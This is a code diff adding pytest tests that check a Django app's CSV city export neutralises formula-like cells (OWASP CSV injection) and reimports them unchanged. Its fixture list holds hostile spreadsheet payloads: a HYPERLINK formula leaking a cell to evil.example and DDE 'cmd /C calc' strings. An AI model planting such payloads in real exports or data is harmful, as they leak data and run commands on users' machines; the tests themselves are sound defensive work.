@@ -227,3 +227,90 @@ def test_geojson_city_without_coordinates_has_null_geometry(client, world):
     world["koln"].save()
     data = json.loads(read_stream(client.get("/api/v1/cities.geojson", {"q": "koln"})))
     assert data["features"][0]["geometry"] is None
+
+
+# --- formulas in the CSV (OWASP "CSV injection") -------------------------------------
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted by its author",
+]
+
+
+@pytest.fixture
+def hostile_cities(world):
+    from decimal import Decimal
+
+    from tests.factories import CityFactory, MembershipFactory
+
+    cities = []
+    for i, name in enumerate(HOSTILE_NAMES):
+        city = CityFactory(
+            name=name,
+            slug=f"hostile-{i}",
+            country="GB",
+            region="=1+1" if i == 0 else "@region",
+            latitude=Decimal("51.5072"),
+            longitude=Decimal("-0.1278"),
+        )
+        MembershipFactory(city=city, coalition=world["eccar"])
+        cities.append(city)
+    return cities
+
+
+def test_csv_export_puts_a_quote_before_every_cell_a_spreadsheet_would_run(client, hostile_cities):
+    rows = list(csv.DictReader(io.StringIO(read_stream(client.get("/api/v1/cities.csv")))))
+    by_slug_order = {r["name"]: r for r in rows if r["country"] == "GB"}
+    assert sorted(by_slug_order) == sorted(
+        [
+            "'" + '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+            "'+cmd|' /C calc'!A0",
+            "'-2+3+cmd|' /C calc'!A0",
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "''=already quoted by its author",
+        ]
+    )
+    for row in by_slug_order.values():
+        assert row["region"] in ("'=1+1", "'@region")
+        assert row["longitude"] == "-0.1278"  # a number stays a number
+    for row in rows:
+        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_csv_export_of_formula_like_names_reimports_unchanged(client, tmp_path, hostile_cities):
+    from django.core.management import call_command
+
+    from members.models import City
+
+    exported = b"".join(client.get("/api/v1/cities.csv").streaming_content)
+    path = tmp_path / "export.csv"
+    path.write_bytes(exported)
+    before = sorted(City.objects.values_list("name", "region", "longitude"))
+    out = io.StringIO()
+    call_command("import_cities", str(path), stdout=out, stderr=io.StringIO())
+    assert "cities: 0 created, 0 updated, 10 unchanged" in out.getvalue()
+    assert sorted(City.objects.values_list("name", "region", "longitude")) == before
+
+
+def test_the_api_docs_say_how_formula_like_cells_are_quoted(client, world):
+    schema = client.get("/api/schema/", {"format": "json"}).json()
+    export = schema["paths"]["/api/v1/cities.csv"]["get"]
+    assert "single quote" in export["description"]
+    assert "OWASP" in export["description"]
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["", "Zürich", "=1+1", "+1", "-", "-0.1278", "+5", "'", "'=x", "''=x", "'-5", "@", "\tx",
+     "\rx", "a=b", "-2+3", "'plain", "1e5", "-.5"],
+)  # fmt: skip
+def test_a_neutralised_cell_is_restored_exactly(value):
+    from coalition.csvcells import FORMULA_STARTS, neutralise, restore
+
+    cell = neutralise(value)
+    assert restore(cell) == value
+    if cell.startswith(FORMULA_STARTS):
+        float(cell)  # only a plain number may start like a formula
